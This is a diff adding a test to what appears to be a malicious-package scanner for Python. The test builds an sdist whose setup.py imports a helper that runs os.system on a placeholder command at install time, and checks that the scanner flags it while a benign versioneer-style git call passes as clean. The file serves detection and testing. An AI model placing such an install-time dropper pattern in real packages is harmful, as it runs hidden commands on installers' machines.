@@ -517,3 +517,26 @@ def test_compiled_code_shipped_without_source_and_imported_is_caught() -> None:
     assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
     files["demo/core.py"] = "def f():\n    return 1\n"
     assert analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result.verdict is Verdict.CLEAN
+
+
+def test_a_dropper_split_into_a_helper_module_that_setup_imports_is_install_time() -> None:
+    """setup.py ``import helper; helper.go()``: pip runs helper.py as part of the setup script."""
+    files = {
+        "setup.py": "from setuptools import setup\nimport helper\nhelper.go()\nsetup(name='demo')\n",
+        "helper.py": f"import os\ndef go():\n    os.system({COMMAND})\n",
+        "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+    }
+    result = analyze_bytes(make_sdist(files), "demo-1.0.tar.gz").result
+    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+    versioneer = (
+        "import subprocess\ndef get_versions():\n"
+        "    out = subprocess.run(['git', 'describe', '--tags'], capture_output=True, text=True)\n"
+        "    return {'version': out.stdout.strip()}\n"
+    )
+    files = {
+        "setup.py": "from setuptools import setup\nimport versioneer\n"
+        "setup(name='demo', version=versioneer.get_versions()['version'])\n",
+        "versioneer.py": versioneer,
+        "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+    }
+    assert analyze_bytes(make_sdist(files), "demo-1.0.tar.gz").result.verdict is Verdict.CLEAN
